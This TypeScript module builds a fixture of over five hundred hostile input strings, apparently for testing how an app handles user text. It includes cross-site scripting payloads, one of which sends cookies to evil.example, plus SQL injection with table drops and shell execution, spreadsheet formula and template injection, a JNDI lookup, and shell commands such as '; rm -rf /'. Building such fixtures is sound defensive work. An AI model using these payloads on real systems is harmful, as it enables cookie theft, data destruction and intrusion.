/** A text that means harm, by what it tries. */
export interface HostileText {
  family: string;
  text: string;
}

/** Every pair of two lists, joined. */
const pairs = (first: readonly string[], second: readonly string[]) =>
  first.flatMap((one) => second.map((two) => one.replaceAll('%', two)));

/** From `from` to `to`, as characters. */
const range = (from: number, to: number) =>
  Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index));

const DO = [
  'alert(1)',
  'fetch("//evil.example/"+document.cookie)',
  'top.location=`//evil.example`',
];

const FAMILIES: Readonly<Record<string, readonly string[]>> = {
  'runs a script': [
    ...pairs(
      [
        '<script>%</script>',
        '<SCRIPT SRC=//evil.example/x.js>%</SCRIPT>',
        '<scr<script>ipt>%</scr</script>ipt>',
        '<script\n>%</script\t>',
        '<script/x>%</script >',
        '<svg><script>%</script></svg>',
        '<svg/onload=%>',
        '<img src=x onerror=%>',
        '<img/src="x"/onerror=\'%\'>',
        '<body onpageshow=%>',
        '<details open ontoggle=%>',
        '<video><source onerror=%></video>',
        '<marquee onstart=%>',
        '<input autofocus onfocus=%>',
        '<iframe srcdoc="<script>%</script>"></iframe>',
        '<iframe src="javascript:%"></iframe>',
        '<a href="javascript:%">boots</a>',
        '<a href="java\tscript:%">boots</a>',
        '<form action="javascript:%"><button>Buy</button></form>',
        '<object data="data:text/html,<script>%</script>"></object>',
        '<math><mtext><style><img src=x onerror=%></style></mtext></math>',
        '<noscript><p title="</noscript><img src=x onerror=%>">',
        '<template><script>%</script></template>',
        '<x style="animation:spin" onanimationend=%>',
      ],
      DO,
    ),
    ...pairs(
      ['<%>', '</%>', '<% '],
      [
        'base href=//evil.example',
        'meta http-equiv=refresh content="0;url=//evil.example"',
        'link rel=stylesheet href=//evil.example/x.css',
        'style>*{display:none}</style',
        'plaintext',
        'title',
        'textarea',
        'xmp',
        'frameset onload=alert(1)',
        'portal src=//evil.example',
      ],
    ),
  ],
  'breaks out of an attribute': pairs(
    ['"%', "'%", '`%', '" %', "' %", '">%', "'>%", '"/>%', '\\"%', '&quot;%'],
    ['onmouseover=alert(1) x="', "style=position:fixed;inset:0 x='", 'autofocus onfocus=alert(1) '],
  ),
  'writes as entities': [
    ...pairs(
      [
        '&lt;%&gt;',
        '&#60;%&#62;',
        '&#x3c;%&#x3E;',
        '&#0000060;%',
        '\\u003c%\\u003e',
        '\\x3c%\\x3e',
        '%3C%%3E',
        '&amp;lt;%',
      ],
      ['script', 'img src=x onerror=alert(1)', '/title'],
    ),
    '&nbsp;',
    '&',
    '&&amp;&',
    '&#0;',
    '&#x110000;',
    '&NotExists;',
    '&copy without an end',
  ],
  'closes what holds it': pairs(
    ['</%>', '</% ><script>alert(1)</script>', '</%\n>'],
    ['script', 'style', 'title', 'textarea', 'html', 'body', 'p', 'article', 'svg'],
  ).concat([
    '<!--',
    '-->',
    '<!--><script>',
    ']]>',
    '<![CDATA[',
    '<?php echo 1 ?>',
    '<!doctype html>',
    '{"@type":"Product"}</script>',
  ]),
  'turns the text around': range(0x202a, 0x202e)
    .concat(range(0x2066, 0x2069))
    .flatMap((sign) => [`Good ${sign}boots`, `${sign}${sign}stoob`, `A ${sign} b \u202c c`]),
  'marks directions': ['\u200e', '\u200f', '\u061c'].flatMap((sign) => [
    `Good${sign} boots`,
    `${sign}مرحبا boots`,
  ]),
  'hides characters': range(0x200b, 0x200d)
    .concat(range(0x2060, 0x2064), range(0xfff9, 0xfffb), [
      '\ufeff',
      '\u00ad',
      '\u180e',
      '\u034f',
      '\u{e0041}',
      '\u{e007f}',
      '\ufe0f',
      '\u{e0100}',
    ])
    .flatMap((sign) => [
      `Go${sign}od boots`,
      sign.repeat(30),
      `<scr${sign}ipt>alert(1)</scr${sign}ipt>`,
    ]),
  'looks blank': [
    '\u00a0',
    '\u1680',
    '\u2000',
    '\u2007',
    '\u202f',
    '\u205f',
    '\u2800',
    '\u3000',
    '\u3164',
    '\u115f',
    '\u1160',
    '\uffa0',
  ].flatMap((sign) => [sign.repeat(25), `Good${sign}boots`]),
  'piles up marks': [3, 8, 9, 30, 400]
    .flatMap((count) => [
      `Z${'\u0300'.repeat(count)}algo boots`,
      `Z${'\u0301\u0323'.repeat(count / 2)} boots`,
      `Z${'\u20e3'.repeat(count)} boots`,
    ])
    .concat(['👩‍👩‍👧‍👦 boots', '🏳️‍🌈🏴󠁧󠁢󠁥󠁮󠁧󠁿 boots', `👩${'\u200d👩'.repeat(60)}`]),
  'is very long': [
    'a'.repeat(4_000),
    'W'.repeat(99),
    '\ufdfd'.repeat(50),
    '𒐫'.repeat(40),
    `${'a '.repeat(2_400)}`,
  ],
  'speaks SQL': pairs(
    ["'%", '"%', "');%", "\\'%", "';%", '$$%', '%'],
    [
      ' or 1=1 --',
      ' union select password from identity_users --',
      '; drop table reviews; --',
      "; copy reviews to program 'sh'; --",
      "||pg_sleep(9)||'",
      '/**/or/**/true#',
    ],
  ),
  'searches oddly': [
    '%',
    '_',
    '%%%',
    'a:*',
    '!a',
    'a & b',
    'a | b',
    '<->',
    "'a':B",
    '\\%',
    ':*',
    '(a',
    'a)',
  ],
  'is a template': pairs(
    ['{{%}}', '\u0024{%}', '<%= % %>', '#{%}', '{%%%}', '[[%]]', '@(%)', '{!%}', '*{%}', '~{%}'],
    ['7*7', 'constructor.constructor("alert(1)")()', 'process.env.IDENTITY_KEY'],
  ),
  'is a formula': pairs(
    ['=%', '+%', '-%', '@%', '\t=%', '\r=%', "'=%", '"=%"', ' =%', '＝%', '=%,=%'],
    [
      '1+1',
      "cmd|' /C calc'!A0",
      'HYPERLINK("//evil.example","Boots")',
      'IMPORTXML("//evil.example")',
    ],
  ),
  'breaks lines': [
    '\n',
    '\r',
    '\r\n',
    '\v',
    '\f',
    '\u0085',
    '\u2028',
    '\u2029',
    '\n\n\n\n\n\n\n\n',
  ].flatMap((end) => [`Good${end}boots`, `${end}Good boots${end}`, `"Good${end},"boots"`]),
  'adds a header': pairs(
    ['Boots\r\n%', 'Boots\n%', 'Boots\r%', 'Boots%0d%0a%', 'Boots\u2028%', 'Boots\\r\\n%'],
    [
      'Bcc: all@example.com',
      'Set-Cookie: a=b',
      'Content-Type: text/html\r\n\r\n<b>Hi</b>',
      '.\r\nMAIL FROM:<a@example.com>',
    ],
  ),
  'is half a character': ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800'].flatMap(
    (half) => [half, `Good ${half} boots`, `${half}${half}`],
  ),
  'controls the terminal': range(0x00, 0x08)
    .concat(range(0x0e, 0x1f), range(0x7f, 0x84), range(0x86, 0x9f))
    .map((sign) => `Good${sign}[2J boots`)
    .concat([
      '\u001b]0;owned\u0007',
      '\u001b]8;;http://evil.example\u0007boots\u001b]8;;\u0007',
      '\u009b31mRed',
      '\u001bc',
      '\u001b[8mhidden\u001b[0m',
      'Good\b\b\b\bBad boots',
    ]),
  'links elsewhere': [
    '[boots](http://evil.example)',
    '[boots](javascript:alert(1))',
    '![boots](http://evil.example/x.gif)',
    '<http://evil.example>',
    'http://evil.example/boots',
    'https://evil.example@shop.example',
    '//evil.example',
    'www.evil.example',
    'evil。example/boots',
    'http://аpple.example',
    'mailto:a@evil.example?subject=boots',
    'call tel:+61400000000',
    'data:text/html,<script>alert(1)</script>',
    '[x]: http://evil.example "boots"',
    '<a href="http://evil.example">See boots</a>',
  ],
  'is a name of the machine': [
    '__proto__',
    'constructor',
    'toString',
    '{"__proto__":{"isAdmin":true}}',
    'null',
    'undefined',
    'NaN',
    'true',
    '[]',
    '0',
    '-0',
    '1e309',
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '$(id)',
    '`id`',
    '; rm -rf /',
    '| cat /etc/passwd',
    '--reply',
    '--',
    '-rf',
    '\u0024{jndi:ldap://evil.example/a}',
    '\\\\evil.example\\share',
  ],
};

/** All of them: more than five hundred, none twice. */
export const HOSTILE_TEXTS: readonly HostileText[] = [
  ...new Map(
    Object.entries(FAMILIES).flatMap(([family, texts]) =>
      texts.map((text): [string, HostileText] => [text, { family, text }]),
    ),
  ).values(),
];
